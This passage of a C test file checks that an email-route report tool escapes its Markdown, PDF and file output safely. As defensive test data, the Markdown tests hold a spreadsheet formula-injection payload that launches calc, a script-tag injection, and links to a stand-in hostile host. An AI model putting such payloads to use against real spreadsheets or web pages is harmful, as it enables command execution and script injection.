          g_autoptr(GString) db = g_string_new (NULL);

          for (guint i = 0; i < HL_LOCK_MAX_LAYERS && sb->layers[i].d; i++)
            g_string_append (db, sb->layers[i].d);
          g_assert_cmpstr (da->str, !=, db->str);
          g_assert_cmpstr (hl_protection_get_label (a), !=, hl_protection_get_label (b));
          g_assert_cmpstr (sa->id, !=, sb->id);
        }
    }
}

/* ---------------------------------------------------------------------------
 * Markdown
 * ------------------------------------------------------------------------- */

static const EscapeCase md_cases[] = {
  { "plain text", "plain text" },
  { "a|b", "a\\|b" },
  { "[x](http://e.example)", "\\[x\\](http\\://e.example)" },
  { "![i](x)", "\\!\\[i\\](x)" },
  { "<b>bold</b>", "\\<b\\>bold\\</b\\>" },
  { "*a* _b_ `c` ~d~", "\\*a\\* \\_b\\_ \\`c\\` \\~d\\~" },
  { "back\\slash", "back\\\\slash" },
  { "a@b.example", "a@\xe2\x81\xa0" "b.example" },
  { "www.evil.example", "www\\.evil.example" },
  { "WWW.evil.example", "WWW\\.evil.example" },
  { "10:30 -05:00", "10:30 -05:00" },
  { "line\nbreak\r\n", "line break  " },
  { "&amp; #1 $x$", "\\&amp; \\#1 \\$x\\$" },
};

static void
test_md_escape (gconstpointer data)
{
  const EscapeCase *c = data;
  g_autoptr(GString) out = g_string_new (NULL);

  hl_report_append_markdown (out, c->in);
  g_assert_cmpstr (out->str, ==, c->out);
}

/* Cells of a GFM table row: pipes not escaped by a backslash, minus the outer two. */
static guint
md_cells (const char *line)
{
  guint pipes = 0;

  for (const char *p = line; *p; p++)
    {
      if (*p == '\\' && p[1])
        p++;
      else if (*p == '|')
        pipes++;
    }
  return pipes - 1;
}

static void
check_markdown (const char *md,
                guint       n_hops)
{
  g_auto(GStrv) lines = g_strsplit (md, "\n", -1);
  gboolean in_code = FALSE;
  guint rows = 0;

  for (guint i = 0; lines[i] != NULL; i++)
    {
      const char *l = lines[i];

      if (g_str_has_prefix (l, "```"))
        {
          in_code = !in_code;
          continue;
        }
      if (in_code)
        continue;
      if (l[0] == '|')
        {
          g_assert_cmpuint (md_cells (l), ==, HL_REPORT_N_COLUMNS);
          g_assert_true (g_str_has_suffix (l, " |") || g_str_has_suffix (l, "---|"));
          rows++;
        }
      /* Outside code: no raw markup that makes a link, an image or HTML. */
      for (const char *p = l; *p; p++)
        {
          if (*p == '\\' && p[1])
            {
              p++;
              continue;
            }
          g_assert_true (*p != '<' && *p != '[' && *p != ']' && *p != '`');
        }
      for (const char *p = strstr (l, "://"); p != NULL; p = strstr (p + 1, "://"))
        g_assert_true (p > l && p[-1] == '\\');
      g_assert_null (strstr (l, "www."));
    }
  g_assert_false (in_code);
  g_assert_cmpuint (rows, ==, 2 + n_hops);
}

static void
test_md_hostile (void)
{
  g_autoptr(HlRoute) route = hl_test_load_route ("tests", "report", "hostile.eml", NULL);
  g_autofree char *md = render (route, HL_REPORT_FORMAT_MARKDOWN, 0);

  check_markdown (md, 3);
  g_assert_null (strchr (md, '\x1b'));
  g_assert_nonnull (strstr (md, "\\[click\\](http\\://evil.example)"));
  g_assert_nonnull (strstr (md, "| 3 | 🔓 Not encrypted | =cmd\\|'/C\\_calc'\\!A0 | +SUM | ESMTP |"));
  g_assert_nonnull (strstr (md, "| 1 | 🔓 Not encrypted | \\<script\\> | \\[http\\://evil.example\\] |"));
  g_assert_nonnull (strstr (md, "mallory@\xe2\x81\xa0" "evil.example"));
  /* the raw field, whole, in a code block */
  g_assert_nonnull (strstr (md, "```text\nfrom <script>document.title='pwned'</script>"));
}

static void
test_md_example (void)
{
  g_autoptr(HlRoute) route = hl_test_load_sample ("example.eml");
  g_autofree char *md = render (route, HL_REPORT_FORMAT_MARKDOWN, 0);

  check_markdown (md, 1);
  g_assert_true (g_str_has_prefix (md, "# Hoplock report\n\n## Quotation for the July shipment\n\n"));
  g_assert_nonnull (strstr (md, "🔐 **All encrypted**: The one network hop was encrypted. Its protection was weak.\n"));
  g_assert_nonnull (strstr (md, "| Hop | Protection | From | By | Protocol | TLS | Verification | Rating | Received |\n"
                                "|---:|---|---|---|---|---|---|---|---|\n"
                                "| 1 | 🔐 Encrypted, certificate verified | mail.uexport.com \\[192.168.1.1\\] | "
                                "mail.lint.com | ESMTP | TLSv1/SSLv3 (version unclear), EDH-RSA-DES-CBC3-SHA, "
                                "168 bits | Client certificate verified | Weak | 2005-07-17 15:39:10 -05:00 |\n"));
  g_assert_nonnull (strstr (md, "### Hop 1: mail.uexport.com \\[192.168.1.1\\] → mail.lint.com\n"));

  /* The explanations, under the table */
  {
    g_autofree char *admin = hl_explain_for_admin (hl_route_get_hop (route, 0));
    g_auto(GStrv) first = hl_report_paragraphs (admin);
    g_autoptr(GString) expected = g_string_new ("**What an administrator can do**\n\n");

    hl_report_append_markdown (expected, first[0]);
    g_assert_nonnull (strstr (md, expected->str));
  }
  g_assert_nonnull (strstr (md, "**The cipher suite taken apart**\n\n- "));
  g_assert_nonnull (strstr (md, "**What happened**\n\n"));
  g_assert_nonnull (strstr (md, "**The rating explained**\n\n"));
  g_assert_nonnull (strstr (md, "**What this means for you**\n\n"));
  g_assert_nonnull (strstr (md, "\n## What the header cannot prove\n\n"));
  g_assert_true (strstr (md, "| 1 |") < strstr (md, "**What happened**"));
}

/* ---------------------------------------------------------------------------
 * PDF
 * ------------------------------------------------------------------------- */

/* A message with @n Received fields, alternately encrypted and not. */
static HlRoute *
many_hops (guint n)
{
  g_autoptr(GString) s = g_string_new (NULL);
  g_autoptr(GError) error = NULL;
  HlRoute *route;

  for (guint i = n; i > 0; i--)
    g_string_append_printf (s, "Received: from relay%u.example.org (relay%u.example.org [192.0.2.%u]) "
                               "by relay%u.example.org (Postfix) with %s id A%u; "
                               "Mon, 3 Mar 2025 10:%02u:%02u +0000\r\n",
                            i - 1, i - 1, i % 250 + 1, i, i % 2 ? "ESMTPS" : "ESMTP", i,
                            i / 60, i % 60);
  g_string_append (s, "Subject: Many hops\r\nFrom: a@example.org\r\nTo: b@example.net\r\n\r\n");
  route = hl_route_new_from_data (s->str, s->len, "many.eml", &error);
  g_assert_no_error (error);
  g_assert_cmpuint (hl_route_get_n_hops (route), ==, n);
  return route;
}

static guint
pdf_pages (const char *pdf,
           gsize       len)
{
  guint n = 0;

  for (const char *p = pdf; (p = memmem (p, len - (p - pdf), "/Type /Page", 11)) != NULL; p += 11)
    if (p[11] != 's')
      n++;
  return n;
}

static GBytes *
render_pdf (HlRoute   **routes,
            guint       n,
            HlTextFlags flags)
{
  g_autoptr(GError) error = NULL;
  GBytes *bytes = hl_report_render (routes, n, HL_REPORT_FORMAT_PDF, flags, &error);

  g_assert_no_error (error);
  g_assert_nonnull (bytes);
  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), 7, "%PDF-1.", 7);
  return bytes;
}

/* Without libhoplock-pdf-1's writer, PDF is refused with a clear error. */
static void
test_pdf_unregistered (void)
{
  if (g_test_subprocess ())
    {
      g_autoptr(HlRoute) route = hl_test_load_sample ("example.eml");
      g_autoptr(GError) error = NULL;
      g_autoptr(GBytes) bytes = NULL;

      hl_report_format_set_renderer (HL_REPORT_FORMAT_PDF, NULL);
      g_assert_false (hl_report_format_is_available (HL_REPORT_FORMAT_PDF));
      g_assert_true (hl_report_format_is_available (HL_REPORT_FORMAT_HTML));
      bytes = hl_report_render (&route, 1, HL_REPORT_FORMAT_PDF, 0, &error);
      g_assert_null (bytes);
      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_SUPPORTED);
      g_assert_cmpstr (error->message, ==, "PDF reports need libhoplock-pdf-1");
      hl_report_pdf_register ();
      hl_report_pdf_register ();
      g_clear_pointer (&bytes, g_bytes_unref);
      bytes = render_pdf (&route, 1, 0);
      return;
    }
  g_test_trap_subprocess (NULL, 0, G_TEST_SUBPROCESS_DEFAULT);
  g_test_trap_assert_passed ();
}

static void
test_pdf_page_size (void)
{
  g_autoptr(HlRoute) route = hl_test_load_sample ("example.eml");
  g_autoptr(GBytes) a4 = render_pdf (&route, 1, 0);
  g_autoptr(GBytes) letter = render_pdf (&route, 1, HL_REPORT_LETTER);

  g_assert_nonnull (memmem (g_bytes_get_data (a4, NULL), g_bytes_get_size (a4),
                            "/MediaBox [ 0 0 595.275591 841.889764 ]", 39));
  g_assert_nonnull (memmem (g_bytes_get_data (letter, NULL), g_bytes_get_size (letter),
                            "/MediaBox [ 0 0 612 792 ]", 25));
  g_assert_cmpuint (pdf_pages (g_bytes_get_data (a4, NULL), g_bytes_get_size (a4)), >=, 1);
}

/* Long reports run onto more pages; each message starts a page. */
static void
test_pdf_pages (void)
{
  HlRoute *routes[] = { many_hops (60), hl_test_load_sample ("example.eml"), many_hops (3) };
  g_autoptr(GBytes) one = render_pdf (routes, 1, 0);
  g_autoptr(GBytes) three = render_pdf (routes, 3, 0);
  guint pages_one = pdf_pages (g_bytes_get_data (one, NULL), g_bytes_get_size (one));
  guint pages_three = pdf_pages (g_bytes_get_data (three, NULL), g_bytes_get_size (three));

  g_assert_cmpuint (pages_one, >=, 5);
  g_assert_cmpuint (pages_three, >=, pages_one + 2);
  for (guint i = 0; i < G_N_ELEMENTS (routes); i++)
    hl_route_unref (routes[i]);
}

/* A header's 60 000-character word is drawn, broken across lines and pages. */
static void
test_pdf_long_words (void)
{
  g_autoptr(GString) s = g_string_new ("Received: from ");
  g_autoptr(GError) error = NULL;
  g_autoptr(HlRoute) route = NULL;
  g_autoptr(GBytes) pdf = NULL;
  gint64 start;

  for (guint i = 0; i < 60000; i++)
    g_string_append_c (s, 'a' + i % 26);
  g_string_append (s, " (x [192.0.2.1]) by mx.example.net with ESMTP; Mon, 2 Jan 2023 10:00:00 +0000\r\n"
                      "Subject: long\r\n\r\n");
  route = hl_route_new_from_data (s->str, s->len, "long.eml", &error);
  g_assert_no_error (error);
  start = g_get_monotonic_time ();
  pdf = render_pdf (&route, 1, 0);
  g_test_message ("%.2f s for %" G_GSIZE_FORMAT " bytes of PDF",
                  (g_get_monotonic_time () - start) / 1e6, g_bytes_get_size (pdf));
  g_assert_cmpuint (pdf_pages (g_bytes_get_data (pdf, NULL), g_bytes_get_size (pdf)), >=, 5);
}

/* The From cell names the sender once: its name, the HELO when that says more,
 * the address. */
static void
test_from_cell (void)
{
  static const struct
  {
    const char *from;
    const char *cell;
  } cases[] = {
    { "from helo.example (rdns.example [192.0.2.2])", "rdns.example (helo helo.example) [192.0.2.2]" },
    { "from mx.example (mx.example [192.0.2.3])", "mx.example [192.0.2.3]" },
    { "from [192.0.2.1]", "[192.0.2.1]" },
    { "from [10.0.0.9] ([192.0.2.1])", "(helo [10.0.0.9]) [192.0.2.1]" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *text = g_strdup_printf ("Received: %s by mx.example.net with ESMTP; "
                                               "Mon, 3 Mar 2025 10:00:00 +0000\r\nSubject: x\r\n\r\n",
                                               cases[i].from);
      g_autoptr(GError) error = NULL;
      g_autoptr(HlRoute) route = hl_route_new_from_data (text, strlen (text), "from.eml", &error);
      g_autoptr(HlReportMessage) m = NULL;

      g_assert_no_error (error);
      m = hl_report_message_new (route);
      g_assert_cmpuint (m->n_hops, ==, 1);
      g_assert_cmpstr (hl_report_hop_cell (&m->hops[0], HL_REPORT_COLUMN_FROM), ==, cases[i].cell);
    }
}

/* A journey longer than any mail server lets a message go: the reports for
 * reading show and explain only the newest hops and say so; JSON, CSV and plain
 * text keep every hop. */
static void
test_long_journey (void)
{
  const guint n = HL_REPORT_MAX_EXPLAINED_HOPS + 10;
  g_autoptr(HlRoute) route = many_hops (n);
  g_autoptr(HlRoute) short_route = many_hops (HL_REPORT_MAX_EXPLAINED_HOPS);
  g_autoptr(HlReportMessage) m = hl_report_message_new (route);
  g_autoptr(HlReportMessage) all = hl_report_message_new (short_route);
  g_autofree char *range = g_strdup_printf ("hops %u to %u", n - HL_REPORT_MAX_EXPLAINED_HOPS + 1, n);
  g_autofree char *first_shown = g_strdup_printf ("Hop %u: ", n - HL_REPORT_MAX_EXPLAINED_HOPS + 1);
  g_autofree char *first_left = g_strdup_printf ("Hop %u: ", n - HL_REPORT_MAX_EXPLAINED_HOPS);
  g_autofree char *explained = g_strdup_printf ("Hop %u of %u", n - HL_REPORT_MAX_EXPLAINED_HOPS + 1, n);
  g_autofree char *explained_hop = NULL;
  HlReportFormat pages[] = { HL_REPORT_FORMAT_HTML, HL_REPORT_FORMAT_MARKDOWN };

  /* The model: the newest hops, in order, and a note naming the range. */
  g_assert_cmpuint (m->n_hops, ==, HL_REPORT_MAX_EXPLAINED_HOPS);
  g_assert_cmpuint (m->hops[0].index, ==, n - HL_REPORT_MAX_EXPLAINED_HOPS + 1);
  g_assert_cmpuint (m->hops[m->n_hops - 1].index, ==, n);
  g_assert_nonnull (m->omitted);
  g_assert_nonnull (strstr (m->omitted, range));
  g_assert_nonnull (strstr (m->omitted, "JSON"));
  g_assert_cmpuint (all->n_hops, ==, HL_REPORT_MAX_EXPLAINED_HOPS);
  g_assert_null (all->omitted);

  for (guint i = 0; i < G_N_ELEMENTS (pages); i++)
    {
      g_autofree char *out = render (route, pages[i], 0);

      g_assert_nonnull (strstr (out, range));
      g_assert_nonnull (strstr (out, first_shown));
      g_assert_null (strstr (out, first_left));
    }

  /* Plain text lists every hop; with explanations it explains only the newest. */
  {
    g_autofree char *text = render (route, HL_REPORT_FORMAT_TEXT, 0);
    g_autofree char *explain = render (route, HL_REPORT_FORMAT_TEXT, HL_TEXT_EXPLAIN);
    g_autofree char *first = g_strdup_printf ("Hop 1 of %u", n);
    const char *from;

    g_assert_nonnull (strstr (text, first));
    g_assert_null (strstr (text, range));
    g_assert_nonnull (strstr (explain, first));
    g_assert_nonnull (strstr (explain, range));
    g_assert_cmpuint (count (explain, "What happened"), ==, HL_REPORT_MAX_EXPLAINED_HOPS);
    /* The first explanation comes after the first explained hop. */
    from = strstr (explain, explained);
    g_assert_nonnull (from);
    explained_hop = g_strndup (explain, from - explain);
    g_assert_cmpuint (count (explained_hop, "What happened"), ==, 0);
  }

  /* JSON and CSV: every hop. */
  {
    g_autofree char *json = render (route, HL_REPORT_FORMAT_JSON, 0);
    g_autofree char *csv = render (route, HL_REPORT_FORMAT_CSV, 0);

    g_assert_cmpuint (count (json, "\"index\" : "), ==, n);
    g_assert_null (strstr (json, range));
    g_assert_cmpuint (count (csv, "\n"), ==, n + 1);
  }
}

/* ---------------------------------------------------------------------------
 * Writing files
 * ------------------------------------------------------------------------- */

static void
test_write_file (void)
{
  g_autoptr(HlRoute) route = hl_test_load_sample ("one-clear-hop.eml");
  g_autofree char *dir = g_dir_make_tmp ("hoplock-report-XXXXXX", NULL);

  for (HlReportFormat f = 0; f < HL_REPORT_N_FORMATS; f++)
    {
      g_autofree char *name = g_strdup_printf ("report.%s", hl_report_format_extension (f));
      g_autofree char *path = g_build_filename (dir, name, NULL);
      g_autoptr(GFile) file = g_file_new_for_path (path);
      g_autoptr(GError) error = NULL;
      g_autoptr(GBytes) expected = hl_report_render (&route, 1, f, 0, &error);
      g_autofree char *contents = NULL;
      gsize len;

      g_assert_true (g_file_set_contents (path, "older", -1, NULL));
      g_assert_true (hl_report_write_file (&route, 1, f, 0, file, NULL, &error));
      g_assert_no_error (error);
      g_assert_true (g_file_get_contents (path, &contents, &len, NULL));
      if (f != HL_REPORT_FORMAT_PDF)   /* a PDF has its creation time in it */
        g_assert_cmpmem (contents, len, g_bytes_get_data (expected, NULL), g_bytes_get_size (expected));
      else
        g_assert_cmpmem (contents, 5, "%PDF-", 5);
      g_unlink (path);
    }
  g_rmdir (dir);
}

/* A folder that cannot be written to: a clear error, nothing left behind, the
 * older file untouched. Root writes anywhere, so the check runs as "nobody". */
static void
test_write_read_only (void)
{
  if (g_test_subprocess ())
    {
      const char *dir = g_getenv ("HL_REPORT_RO_DIR");
      g_autoptr(HlRoute) route = hl_test_load_sample ("example.eml");

      if (getuid () == 0 && (setgid (65534) != 0 || setuid (65534) != 0))
        {
          hl_test_fail ("cannot become nobody: %s", g_strerror (errno));
          return;
        }
      for (HlReportFormat f = 0; f < HL_REPORT_N_FORMATS; f++)
        {
          const char *names[] = { "older.txt", "new" };

          for (guint i = 0; i < G_N_ELEMENTS (names); i++)
            {
              g_autofree char *path = g_build_filename (dir, names[i], NULL);
              g_autoptr(GFile) file = g_file_new_for_path (path);
              g_autoptr(GError) error = NULL;

              g_assert_false (hl_report_write_file (&route, 1, f, 0, file, NULL, &error));
              g_assert_error (error, G_IO_ERROR, G_IO_ERROR_PERMISSION_DENIED);
              g_assert_nonnull (strstr (error->message, dir));
            }
        }
      return;
    }
  else
    {
      g_autofree char *dir = g_dir_make_tmp ("hoplock-report-XXXXXX", NULL);
      g_autofree char *older = g_build_filename (dir, "older.txt", NULL);
      g_autofree char *contents = NULL;
      g_autoptr(GDir) listing = NULL;
      const char *name;
      guint n = 0;

      g_assert_true (g_file_set_contents (older, "the older report", -1, NULL));
      g_assert_cmpint (g_chmod (older, 0644), ==, 0);
      g_assert_cmpint (g_chmod (dir, 0555), ==, 0);
      g_setenv ("HL_REPORT_RO_DIR", dir, TRUE);
      g_test_trap_subprocess (NULL, 0, G_TEST_SUBPROCESS_INHERIT_STDERR);
      g_test_trap_assert_passed ();

      listing = g_dir_open (dir, 0, NULL);
      while ((name = g_dir_read_name (listing)) != NULL)
        {
          g_assert_cmpstr (name, ==, "older.txt");
          n++;
        }
      g_assert_cmpuint (n, ==, 1);
      g_assert_true (g_file_get_contents (older, &contents, NULL, NULL));
      g_assert_cmpstr (contents, ==, "the older report");

      g_chmod (dir, 0755);
      g_unlink (older);
      g_rmdir (dir);
    }
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);
  /* A failed check fails its case; the next cases still run */
  g_test_set_nonfatal_assertions ();
  hl_report_pdf_register ();

  g_test_add_func ("/report/formats", test_formats);
  g_test_add_func ("/report/render-all", test_render_all);
  g_test_add_func ("/report/json/contract", test_json_contract);
  g_test_add_func ("/report/json/many", test_json_many);
  g_test_add_func ("/report/csv/example", test_csv_example);
  g_test_add_func ("/report/csv/many", test_csv_many);
  for (guint i = 0; i < G_N_ELEMENTS (csv_cases); i++)
    {
      g_autofree char *path = g_strdup_printf ("/report/csv/escape/%u", i);

      g_test_add_data_func (path, &csv_cases[i], test_csv_escape);
    }
  g_test_add_func ("/report/csv/hostile", test_csv_hostile);
  for (guint i = 0; i < G_N_ELEMENTS (html_cases); i++)
    {
      g_autofree char *path = g_strdup_printf ("/report/html/escape/%u", i);

      g_test_add_data_func (path, &html_cases[i], test_html_escape);
    }
  g_test_add_func ("/report/html/example", test_html_example);
  g_test_add_func ("/report/html/hostile", test_html_hostile);
  g_test_add_func ("/report/locks", test_locks);
  g_test_add_func ("/report/columns", test_columns);
  for (guint i = 0; i < G_N_ELEMENTS (md_cases); i++)
    {
      g_autofree char *path = g_strdup_printf ("/report/md/escape/%u", i);

      g_test_add_data_func (path, &md_cases[i], test_md_escape);
    }
  g_test_add_func ("/report/md/example", test_md_example);
  g_test_add_func ("/report/md/hostile", test_md_hostile);
  g_test_add_func ("/report/pdf/unregistered", test_pdf_unregistered);
  g_test_add_func ("/report/pdf/page-size", test_pdf_page_size);
  g_test_add_func ("/report/pdf/pages", test_pdf_pages);
  g_test_add_func ("/report/pdf/long-words", test_pdf_long_words);
  g_test_add_func ("/report/from-cell", test_from_cell);
  g_test_add_func ("/report/long-journey", test_long_journey);
  g_test_add_func ("/report/write-file", test_write_file);
  g_test_add_func ("/report/write-read-only", test_write_read_only);

  return g_test_run ();
}
